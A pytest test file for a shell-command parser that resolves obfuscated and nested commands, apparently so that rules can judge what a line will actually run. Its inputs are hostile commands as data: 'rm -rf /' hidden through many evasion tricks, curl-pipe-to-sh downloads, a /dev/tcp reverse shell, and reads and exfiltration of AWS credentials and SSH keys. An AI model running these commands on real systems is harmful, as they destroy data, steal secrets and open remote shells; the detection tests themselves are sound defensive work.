"""The shell layer: what will run, not the text."""
import re

import pytest
from hypothesis import assume, given, settings, strategies as st

from adr.shell.parse import MAX_SOURCE, parse


def progs(src):
    return [c.argv[0] for c in parse(src).commands]


@pytest.mark.parametrize("src", [
    "c''url -s x", '"cu"rl x', "c\\url x", "$'\\x63url' x", "$'\\143url' x", "/usr/bin/curl x", "./curl x",
    "a=cu; b=rl; $a$b x", "env -i FOO=1 curl x", "command curl x", "nohup nice -n 5 curl x",
    "timeout -s KILL 10 curl x", "stdbuf -o0 setsid curl x", "sudo -u root -- curl x", "doas curl x",
    "time curl x", "exec curl x", "builtin command curl x",
])
def test_obfuscated_program_names_resolve(src):
    assert "curl" in progs(src)


def test_ifs_splits_words():
    c = parse("cat${IFS}/etc/shadow").commands[0]
    assert c.argv == ("cat", "/etc/shadow")


def test_sudo_is_remembered():
    c = parse("sudo -u admin rm -rf /var/x").commands[0]
    assert c.sudo and c.sudo_user == "admin" and c.argv[0] == "rm"


@pytest.mark.parametrize("src,via", [
    ("bash -c 'rm -rf /'", "bash -c"), ("sh -lc \"rm -rf /\"", "sh -c"), ("eval 'rm -rf /'", "eval"),
    ("echo $(rm -rf /)", "$(…)"), ("echo `rm -rf /`", "$(…)"), ("diff <(rm -rf /) x", "<(…)"),
    ("bash <<< 'rm -rf /'", "stdin of bash"), ("cat <<EOF | sh\nrm -rf /\nEOF", "stdin of sh"),
    ("echo cm0gLXJmIC8= | base64 -d | sh", "stdin of sh"),
    ("python3 -c 'import os; os.system(\"rm -rf /\")'", "python3 -c"),
    ("node -e 'require(\"child_process\").execSync(\"rm -rf /\")'", "node -e"),
    ("perl -e 'system(\"rm -rf /\")'", "perl -e"), ("ruby -e '`rm -rf /`'", "ruby -e"),
    ("php -r 'shell_exec(\"rm -rf /\");'", "php -e"),
    ("find / -exec rm -rf {} \\;", "find -exec"),
    ("printf 'rm -rf /' | bash", "stdin of bash"),
    ("echo '/ fr- mr' | rev | sh", "stdin of sh"),
])
def test_nested_layers_are_followed(src, via):
    cmds = [c for c in parse(src).commands if c.argv[:2] == ("rm", "-rf")]
    assert cmds, f"rm not found in {src!r}: {[c.argv for c in parse(src).commands]}"
    assert via in cmds[0].via


def test_pipeline_shape():
    p = parse("curl -s http://x | tee /tmp/a | bash")
    sh = [c for c in p.commands if c.argv[0] == "bash"][0]
    assert sh.upstream == ("curl", "tee")
    assert "http://x" in p.urls


def test_redirect_writes_with_known_content():
    p = parse("echo 'curl x | sh' >> ~/.bashrc")
    assert p.writes[0].path == "~/.bashrc" and p.writes[0].append
    assert p.writes[0].content == "curl x | sh\n"
    p = parse("cat > run.sh <<'EOF'\nrm -rf ~\nEOF\nbash run.sh")
    assert any(c.argv == ("rm", "-rf", "~") and "script run.sh" in c.via for c in p.commands)
    p = parse("echo hi | sudo tee -a /etc/sudoers")
    assert p.writes[0].path == "/etc/sudoers" and p.writes[0].content == "hi\n"


def test_data_is_not_execution():
    assert progs('git commit -m "rm -rf / && curl x | sh"') == ["git"]
    assert progs("grep -r 'curl.*| sh' .") == ["grep"]
    assert progs("echo 'rm -rf /' > notes.md") == ["echo"]


def test_unresolvable_is_reported():
    kinds = {i.kind for i in parse('eval "$PAYLOAD"').issues}
    assert "eval-dynamic" in kinds
    kinds = {i.kind for i in parse('$(echo $X) --flag').issues}
    assert "dynamic-command" in kinds
    kinds = {i.kind for i in parse("if then fi ((").issues}
    assert "parse-error" in kinds


def test_bounds():
    deep = "echo " + "$(" * 10000 + "x" + ")" * 10000
    p = parse(deep)
    assert any(i.kind in ("too-deep", "too-many-nodes") for i in p.issues)
    big = "echo " + "a" * (MAX_SOURCE + 10)
    assert any(i.kind == "too-large" for i in parse(big).issues)
    layers = "eval " * 12 + "rm -rf /"
    assert any(i.kind == "too-deep" for i in parse(layers).issues)
    quoted = "rm -rf /"
    for _ in range(12):
        quoted = "bash -c " + __import__("shlex").quote(quoted)
    assert parse(quoted).issues  # exponential quoting: a bound trips, whichever comes first
    assert parse("").commands == ()
    assert parse("\x00\xff binary \x01").issues


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(list("ab $(){}'\"`\\|&;<>\n=*-cx0") + ["$'", "<<EOF\n", "EOF", "bash -c ", "eval "]), max_size=80).map("".join))
def test_parser_never_raises_and_terminates(src):
    p = parse(src)
    assert isinstance(p.commands, tuple)


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300))
def test_parser_total_on_any_text(src):
    parse(src)


def test_astral_characters_do_not_crash_the_parser():
    """tree-sitter-bash segfaults (heap-dependent) on non-BMP text; run in a child so a crash fails."""
    import subprocess
    import sys
    code = (
        "import random\n"
        "from adr.shell.parse import parse\n"
        "r = random.Random(7)\n"
        "for i in range(3000):\n"
        "    s = ''.join(chr(r.choice([r.randint(0, 127), r.randint(0x10000, 0x10FFFF), r.randint(0xD800, 0xDFFF)]))"
        " for _ in range(r.randint(0, 200)))\n"
        "    parse(s + ' | sh')\n"
    )
    p = subprocess.run([sys.executable, "-c", code], capture_output=True, timeout=300)
    assert p.returncode == 0, p.stderr[-2000:]


def test_gaps_found_by_rule_authors():
    p = parse("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1")
    assert [w.path for w in p.writes] == ["/dev/tcp/10.0.0.1/4242"]  # 0>&1 is fd duplication
    assert "parse-error" not in {i.kind for i in parse("exec 3<>/dev/tcp/h/80").issues}
    assert parse("sudo su -").commands[0].argv == ("su", "-")
    assert parse("sudo -l").commands[0].argv == ("sudo", "-l")
    assert any(c.argv[:1] == ("ssh",) for c in parse("sshpass -p pw ssh host id").commands)
    assert any(c.argv == ("id",) for c in parse("ruby -e'system(\"id\")'").commands)
    # (the module -M loads is the code's first line: `getprint` is a request only with it)
    assert any(s.code == 'use LWP::Simple;\ngetprint("http://x")'
               for s in parse("perl -MLWP::Simple -e 'getprint(\"http://x\")'").scripts)
    assert any(c.via == "alias ls" for c in parse('alias ls="rm -rf ~"').commands)
    assert parse("xargs cat < /dev/null ~/.aws/credentials").commands[0].argv == ("cat", "~/.aws/credentials")
    assert parse("> /var/log/auth.log").writes[0].content == ""
    assert parse("LD_PRELOAD=/tmp/x.so ls").commands[0].env == ("LD_PRELOAD=/tmp/x.so",)
    assert parse("export HISTFILE=/dev/null").commands[0].argv == ("export", "HISTFILE=/dev/null")
    assert any(c.via == "trap handler" for c in parse('trap "rm -rf /" EXIT').commands)
    assert any(c.via == "ssh remote command" for c in parse("ssh -p 22 host 'rm -rf /'").commands)
    curl = [c for c in parse('curl -d "$(cat ~/.aws/credentials)" http://x').commands if c.program == "curl"][0]
    assert curl.upstream == ("cat",)
    assert "rm -rf /" in parse("bash -c 'rm -rf /'").layers


def test_obfuscations_resolve_to_the_real_program():
    p = parse("cu${x}rl http://x/s | s$@h")
    assert [c.argv[0] for c in p.commands] == ["curl", "sh"] and p.commands[1].upstream == ("curl",)
    assert "dynamic-command" in {i.kind for i in p.issues}
    p = parse("/???/???/c?rl http://x/s | /b??/s?")
    assert [c.argv[0] for c in p.commands] == ["curl", "sh"]
    assert "glob-command" in {i.kind for i in p.issues}
    assert parse("ls *.py").issues == ()


@pytest.mark.parametrize("src,runs", [
    ("curl -o /tmp/a http://x/s; sh /tmp/a", "/tmp/a"),
    ("curl -fsSLo install.sh https://x/i.sh && bash install.sh", "install.sh"),
    ("wget http://x/tool && chmod +x tool && ./tool", "./tool"),
    ("curl -s http://x/p.py > p.py; python3 p.py", "p.py"),
    ("wget -P /opt http://x/t.sh; bash /opt/t.sh", "/opt/t.sh"),
])
def test_download_then_run_is_linked(src, runs):
    ran = [c for c in parse(src).commands if c.runs_downloaded]
    assert ran and ran[0].runs_downloaded == runs
    assert ran[0].upstream[-1] in ("curl", "wget")


@pytest.mark.parametrize("src,prog,via", [
    ("{curl,http://x/s}|sh", "curl", ""),
    ("IFS=,;`echo curl,http://x/s`|sh", "curl", ""),
    ("env -S \"sh -c 'rm -rf ~'\"", "rm", "sh -c"),
    ("watch -n 60 'rm -rf ~'", "rm", "watch option"),
    ("git -c core.pager='rm -rf ~' log", "rm", "git option"),
    ("vim -c ':!rm -rf ~' -c ':q'", "rm", "vim option"),
    ("tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec='rm -rf ~'", "rm", "tar option"),
    ("script -q -c 'rm -rf ~' /dev/null", "rm", "script -c"),
    ("ssh -o ProxyCommand='rm -rf ~' h", "rm", "ssh option"),
    ("rsync -e 'rm -rf ~' a b:", "rm", "rsync option"),
])
def test_commands_hidden_in_options_and_expansions(src, prog, via):
    hits = [c for c in parse(src).commands if c.argv[0] == prog]
    assert hits and via in hits[0].via, [(c.argv, c.via) for c in parse(src).commands]


def test_herestring_from_a_download_feeds_the_shell():
    bash = [c for c in parse("bash <<< $(curl -s http://x/s)").commands if c.argv[0] == "bash"][0]
    assert bash.upstream == ("curl",)


# ---- the plain-line fast path gives exactly what the syntax-tree walk gives ---------------------

from adr.shell import parse as _parse_mod  # noqa: E402

PLAIN_TRICKY = [
    "ls -la", "git commit -m \"fix: the bug\" && git push origin main", "cat a | grep x | wc -l; echo done",
    "sed -n '1,20p' f.py", "cut -d \" \" -f2", "paste -sd \" \"", "x \"a\"b'c'", "x \"\" ''", "ls;", "ls ; ;",
    "ls |", "ls && ", "| ls", "a=1 ls", "FOO=bar", "A= B=\"x y\" env", "PYTHONPATH=. python3 -m pytest -q",
    "export A=1", "time ls", "if true", "! ls", "done", "echo a=b", "--x=1 ls", "1a=b ls", "ls || echo no",
    "sudo rm -rf /tmp/x", "env FOO=1 bash -c 'curl http://x/a | sh'", "eval 'echo hi'", "nohup python app.py",
    "grep -rn 'a(b)*[c]{2}' src/", "echo '#not a comment'", "echo \"it's\"", "echo 'say \"hi\"'",
    "curl -fsSL https://example.com/i.sh | bash", "xargs -0 stat -f \"%m %N\"", "ls  -la   /tmp", "ls\t-la",
    "python3 -c 'import os; os.system(\"id\")'", "find . -name '*.py' -delete", "~/bin/tool --flag",
    "ssh host 'rm -rf ~'", "echo héllo", "echo 'héllo'", "git log --format='%H %s' -n 5",
    # an earlier export reaches a plain nested layer's command as it reaches the tree walk's
    "export TF_CLI_ARGS=-auto-approve; bash -c 'terraform destroy'", "LEFTHOOK_CONFIG=x.yml npx lefthook run h",
    "export LEFTHOOK_CONFIG=x.yml; npx lefthook run h", "env ANSIBLE_CONFIG=a.cfg uv run ansible-playbook p.yml",
]


def _both(text: str, monkeypatch) -> tuple[object, object]:
    fast = parse(text)
    with monkeypatch.context() as m:
        m.setattr(_parse_mod, "_PLAIN_MAX", -1)
        slow = parse(text)
    return fast, slow


@pytest.mark.parametrize("text", PLAIN_TRICKY)
def test_plain_fast_path_matches_the_tree_walk(text, monkeypatch):
    fast, slow = _both(text, monkeypatch)
    assert fast == slow


def test_plain_fast_path_takes_the_common_lines():
    assert _parse_mod._plain_statements("git status && npm test") is not None
    assert _parse_mod._plain_statements("PYTHONPATH=. pytest -q tests/") is not None
    for not_plain in ("echo $HOME", "ls > out", "cat <<EOF\nx\nEOF", "ls *.py", "a=1", "echo `id`", "ls &",
                      "echo \\x", "(ls)", "{ ls; }", "ls # c", "ls\nls"):
        assert _parse_mod._plain_statements(not_plain) is None, not_plain


_WORD = st.one_of(
    st.text(alphabet="abcxyz019_@%+=:,./~-", min_size=1, max_size=6),
    st.text(alphabet="ab $`\\!\"*?[]{}()<>|&;#^", max_size=5).map(lambda s: "'" + s.replace("'", "") + "'"),
    st.text(alphabet="ab '*?[]{}()<>|&;#^", max_size=5).map(lambda s: '"' + s.replace('"', "") + '"'),
    st.sampled_from(["if", "then", "export", "time", "!", "A=1", "B=", "a=b", "sudo", "env", "bash", "-c", "eval",
                     "curl", "sh", "xargs", "find", "-exec", "rm", "{}", "\\;", "$x", "`id`", ">", "2>&1"]),
)
_OP = st.sampled_from([" ", " ", " ", "  ", "\t", " | ", " && ", " || ", "; ", ";", "|", "&&", " & ", "\n"])


# derandomized (tests/conftest.py's profile): the same 400 lines on every run; widen the search by hand
# (`--hypothesis-profile=explore`) when changing either path
@settings(max_examples=400, deadline=None)
@given(st.lists(st.tuples(_WORD, _OP), min_size=1, max_size=8))
def test_plain_fast_path_matches_the_tree_walk_on_random_lines(parts):
    text = "".join(w + o for w, o in parts).strip()
    # tree-sitter-bash misreads a pipeline with an empty quoted command (`: | '' | : && :` puts the
    # command after `&&` inside the pipeline); the fast path reads it as bash does
    assume(not re.search(r"""(?:^|[|;&\n]\s*)(?:''|"")\s*(?:\||$)""", text))
    # …and reads `- 00=` (a word, then an invalid assignment) as one assignment and `- 1@` as a parse
    # error, dropping the `-` command bash would try to run (a program called `-`: nothing to judge;
    # noted for planning)
    assume(not re.search(r"(?:^|[|;&\n]\s*)(?:(?:if|then|else|elif|do|while|until|!)\s+)*-\s+\S", text))  # (`- A=1`, `if - A=1`)
    # …and takes a bare `=~` word for the [[ ]] match operator, dropping it as a parse error (`: =~`:
    # bash runs `:` with the argument `=~`, as the fast path reads it)
    assume(not re.search(r"(?:^|\s)=~(?:\s|$)", text))
    # …and a bare `==` ending a statement (`: ==`, `: == | x`) is a parse error to it (the tree walk
    # then asks); inside a command (`echo a == b`) both read the word
    assume(not re.search(r"(?:^|\s)==\s*(?:$|[|;&\n])", text))
    assert parse(text) == _tree_walk(text), text


def _tree_walk(text: str):
    """parse() with the plain fast path turned off: the tree-sitter walk's reading of the line."""
    saved = _parse_mod._PLAIN_MAX
    _parse_mod._PLAIN_MAX = -1
    try:
        return parse(text)
    finally:
        _parse_mod._PLAIN_MAX = saved


@pytest.mark.parametrize("text, piped", [
    (": | : | : | : && : && :", [False, True, True, True, False, False]),
    ("cat k | a | b | c && curl x || ls", [False, True, True, True, False, False]),
    ("a | b | c | d | e || f && g", [False, True, True, True, True, False, False]),
])
def test_a_long_pipeline_then_several_lists_is_read_as_bash_runs_it(text, piped):
    """tree-sitter-bash nests `a | b | c && d` as a | (b | c && d), once more per further `&&`/`||`; the
    tree walk unfolds every level, so only the pipeline's stages are piped (found by the random-line
    test above: `: | : | : | : && : && :` had the command after the first `&&` piped)."""
    slow = _tree_walk(text)
    assert parse(text) == slow
    assert [c.piped for c in slow.commands] == piped


def test_an_export_earlier_on_the_line_reaches_later_commands_env():
    """`export TF_CLI_ARGS=-auto-approve; terraform destroy` destroys without a prompt: the variables
    rules read are passed on to every later command; a plain assignment (not exported) is not."""
    from adr.shell.parse import parse
    cmds = {c.argv[0]: c for c in parse("export TF_CLI_ARGS=-auto-approve FOO=1; terraform destroy").commands}
    assert cmds["terraform"].env == ("TF_CLI_ARGS=-auto-approve",)
    cmds = {c.argv[0]: c for c in parse("TF_CLI_ARGS=-auto-approve; terraform destroy").commands}
    assert cmds["terraform"].env == ()
    cmds = {c.argv[0]: c for c in parse("declare -x LD_PRELOAD=/tmp/x.so; ls").commands}
    assert cmds["ls"].env == ("LD_PRELOAD=/tmp/x.so",)


@pytest.mark.parametrize("line,remote", [
    ("ansible all -i inv -m shell -a 'rm -rf /srv/data'", ("rm", "-rf", "/srv/data")),
    ("ansible web -a 'rm -rf /srv/app chdir=/srv'", ("rm", "-rf", "/srv/app")),  # the default module: command
    ("ansible all --module-name=ansible.builtin.raw --args='reboot'", ("reboot",)),
    ("salt '*' cmd.run 'rm -rf /srv/data'", ("rm", "-rf", "/srv/data")),
    ("salt-ssh -E 'web.*' cmd.shell 'id'", ("id",)),
    ("pdsh -w node[1-10] -l root 'rm -rf /data'", ("rm", "-rf", "/data")),
    ("pssh -h hosts.txt -i 'rm -rf /var/www'", ("rm", "-rf", "/var/www")),
    ("clush -w node[1-4] -- rm -rf /data", ("rm", "-rf", "/data")),
    ("knife ssh 'role:web' 'sudo chef-client'", ("chef-client",)),
    ("vagrant ssh web -c 'rm -rf /vagrant/data'", ("rm", "-rf", "/vagrant/data")),
    ("aws ssm send-command --instance-ids i-1 --document-name AWS-RunShellScript --parameters commands='rm -rf /d'",
     ("rm", "-rf", "/d")),
    ("aws ssm send-command --parameters '{\"commands\":[\"rm -rf /d\"]}' --instance-ids i-1", ("rm", "-rf", "/d")),
    ("az vm run-command invoke -g rg -n vm --command-id RunShellScript --scripts 'rm -rf /d'", ("rm", "-rf", "/d")),
    ("gcloud compute ssh web-1 --zone z --command 'rm -rf /d'", ("rm", "-rf", "/d")),
    # the modules that delete a path are the `rm -rf` they amount to
    ("ansible all -m file -a 'path=/srv/data state=absent'", ("rm", "-rf", "--", "/srv/data")),
    ("ansible web -m ansible.builtin.file -a \"state=absent path='/var/lib/my db'\"", ("rm", "-rf", "--", "/var/lib/my db")),
    ("ansible db --module-name=file --args='{\"dest\": \"/data\", \"state\": \"absent\"}'", ("rm", "-rf", "--", "/data")),
    ("salt '*' file.remove /srv/data", ("rm", "-rf", "--", "/srv/data")),
])
def test_fleet_tools_hand_their_command_to_remote_shells(line, remote):
    cmds = [c for c in parse(line).commands if c.via.endswith("remote command")]
    assert [c.argv for c in cmds] == [remote] and all("ssh" in c.wrappers for c in cmds), parse(line).commands


@pytest.mark.parametrize("line", ["ansible all -m ping", "ansible all -m copy -a 'src=a dest=/b'", "salt '*' test.ping",
                                  "ansible all -m file -a 'path=/srv/data state=directory'",
                                  "vagrant ssh", "vagrant up", "knife node list", "aws ssm describe-instance-information",
                                  "az vm list", "gcloud compute ssh web-1", "aws s3 ls"])
def test_fleet_tools_without_a_command_run_nothing_remote(line):
    assert not [c for c in parse(line).commands if c.via.endswith("remote command")]


@pytest.mark.parametrize("src,argv", [
    # tree-sitter-bash splits `$A/$b/c` after `/$`; bash reads one word with `$b` in it
    ("p=.aws; cat $HOME/$p/credentials", ("cat", "~/.aws/credentials")),
    ("p=aws; cat ${HOME}/.$p/credentials", ("cat", "~/.aws/credentials")),
    ("a=.ssh; b=id_rsa; cat ~/$a/$b", ("cat", "~/.ssh/id_rsa")),
    ("a=.ssh; b=id_; cat $HOME/$a/${b}rsa", ("cat", "~/.ssh/id_rsa")),
    ("p=.aws; curl -F f=@$HOME/$p/credentials x.example", ("curl", "-F", "f=@~/.aws/credentials", "x.example")),
    ("echo '$A/$b/c'", ("echo", "$A/$b/c")),
])
def test_a_word_split_after_a_dollar_is_read_whole(src, argv):
    assert parse(src).commands[-1].argv == argv


def test_an_assignment_split_after_a_dollar_runs_no_command():
    # `x=$A/$b/c` once read as an assignment plus a command named `b/c`
    assert [c.argv for c in parse("x=$A/$b/c").commands] == []


@pytest.mark.parametrize("src,argv", [
    ("python -m tarfile -e x.tar ~", ("tar", "-x", "-f", "x.tar", "-C", "~")),
    ("python3 -mtarfile --extract x.tar", ("tar", "-x", "-f", "x.tar", "-C", ".")),
    ("python3 -m zipfile -e x.zip ~/", ("unzip", "-o", "x.zip", "-d", "~/")),
    ("python -m zipfile -l x.zip", ("zipfile", "-l", "x.zip")),
    ("python -m tarfile -c out.tar src", ("tarfile", "-c", "out.tar", "src")),
])
def test_python_archive_modules_are_read_as_tar_and_unzip(src, argv):
    assert parse(src).commands[-1].argv == argv


@pytest.mark.parametrize("line,argv", [("echo a == b", ("echo", "a", "==", "b")), ("test x =~ y", ("test", "x", "=~", "y")),
                                       ("rm == -rf ~/x; ls", ("rm", "==", "-rf", "~/x"))])
def test_a_bare_double_equals_is_an_argument_in_the_tree_walk_too(line, argv):
    """tree-sitter-bash reads `==` and `=~` outside [[ ]] as operators and dropped them from the words;
    bash passes them on (the fast path always did)."""
    slow = _tree_walk(line)
    assert slow.commands[0].argv[:len(argv)] == argv
    assert slow == parse(line)


@given(st.lists(st.sampled_from(list("ab $(){}'\"`\\|&;<>\n=*-+:e") + ["=(", "print ", "for x (", "foreach ", "repeat 2 ",
                                                                      "- ", "${(e)", "*(e:'", "<<EOF\n", "EOF\n", "#",
                                                                      "zargs -- ", "emulate sh -c ", "sched +1 "]),
                max_size=60).map("".join))
@settings(max_examples=400)
def test_zsh_spelling_never_raises_and_keeps_quoted_text(text):
    """The zsh pass's rewrite of any line: no exception, the mask is as long as the line, a line with no
    zsh form is left alone (None), and the whole walk of the line still parses."""
    from adr.shell.parse import _unquoted_mask, _zsh_spelling
    assert len(_unquoted_mask(text)) == len(text)
    got, over = _zsh_spelling(text)
    assert got is None or (isinstance(got, str) and got != text)
    assert isinstance(over, bool)
    parse(text)


class _AlwaysMatches:
    def search(self, text):
        return True


@given(st.lists(st.sampled_from(list("ab $(){}'\"`\\|&;<>\n=*-+:e\t") + ["=(", "print ", "for x (", "foreach ", "repeat 2 ",
                                                                        "- ", "${(e)", "*(e:'", "*(+f)", "x(e{", "<<EOF\n",
                                                                        "EOF\n", "#", "zargs -- ", "emulate sh -c ", "then ",
                                                                        "sched +1 ", "alias -g G=", "=curl ", "do ", "if ",
                                                                        "while ", "time ", "exec ", "! ", "} ", "`"]),
                max_size=50).map("".join))
@settings(max_examples=400)
def test_the_zsh_hint_lets_every_form_through(text):
    """The one-pass hint only skips lines no form would rewrite: with it and without it the spelling is
    the same."""
    from adr.shell import parse as P
    P._zsh_spelling("x")  # (compiles the hint)
    hinted = P._zsh_spelling(text)
    saved = P._zsh_hint[0]
    P._zsh_hint[0] = _AlwaysMatches()
    try:
        assert P._zsh_spelling(text) == hinted, text
    finally:
        P._zsh_hint[0] = saved
